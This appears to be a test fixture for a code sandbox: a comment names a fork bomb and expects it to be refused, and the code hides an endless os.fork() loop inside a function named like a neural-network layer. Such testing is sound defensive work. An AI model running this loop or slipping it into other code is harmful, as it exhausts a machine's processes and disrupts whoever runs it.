# Threat: a fork bomb. Expected: refused (`error`, "not permitted"); the machine is unharmed.
import os


def linear_forward(A, W, b):
    while True:
        os.fork()
